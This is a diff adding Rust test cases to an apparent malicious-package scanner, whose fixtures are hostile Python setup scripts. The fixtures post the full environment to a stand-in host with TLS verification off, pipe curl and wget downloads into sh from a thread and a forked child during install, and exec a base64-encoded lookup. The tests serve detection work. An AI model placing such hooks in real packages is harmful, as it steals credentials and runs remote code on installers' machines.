@@ -192,6 +192,26 @@ setup(name='exfil', version='1.0')
         "http",
         "POST https://collect.evil.example/e",
     );
+
+    // The same through urllib with certificate checks turned off: WASI has no ssl.
+    let setup = r#"
+import os, json, ssl, urllib.request
+body = json.dumps(dict(os.environ)).encode()
+urllib.request.urlopen(urllib.request.Request('https://tls.evil.example/c', data=body),
+                       context=ssl._create_unverified_context(), timeout=3)
+"#;
+    let (code, v) = one(&["--fail-on", "suspicious"], setup, "tlsexfil");
+    assert_eq!(code, 4, "{v}");
+    assert_eq!(error_kind(&v), Some("setup-failed"), "{v}");
+    assert_has(&v, "notice", "network", "import", "ssl");
+    assert_has(
+        &v,
+        "suspicious",
+        "network",
+        "http",
+        "POST https://tls.evil.example/c",
+    );
+    assert_has(&v, "suspicious", "network", "dns", "tls.evil.example");
 }
 
 #[test]
@@ -443,6 +463,15 @@ class Install(install):
         exec(base64.b64decode('aW1wb3J0IHNvY2tldDsgc29ja2V0LmdldGFkZHJpbmZvKCdpbnN0YWxsLmV2aWwuZXhhbXBsZScsIDQ0Myk='))
         install.run(self)
 
+# Started in a thread, or in a forked child: WASI has neither; the observed build runs them.
+import sys, threading
+def later():
+    os.system('curl -s http://thread.evil.example | sh')
+if 'install' in sys.argv:
+    threading.Thread(target=later, daemon=True).start()
+    if os.fork() == 0:
+        os.system('wget -qO- http://fork.evil.example | sh')
+
 setup(name='later', version='1.0', install_requires=['honest-dep>=1'], python_requires='>=3.8',
       py_modules=[], cmdclass={'install': Install})
 "#;
@@ -467,6 +496,20 @@ setup(name='later', version='1.0', install_requires=['honest-dep>=1'], python_re
         "dynamic-code",
         "exec",
         "install.evil.example",
+    );
+    assert_has(
+        &observed,
+        "suspicious",
+        "process",
+        "run",
+        "thread.evil.example",
+    );
+    assert_has(
+        &observed,
+        "suspicious",
+        "process",
+        "run",
+        "fork.evil.example",
     );
     // The answer is the same with and without the build observed.
     for key in [
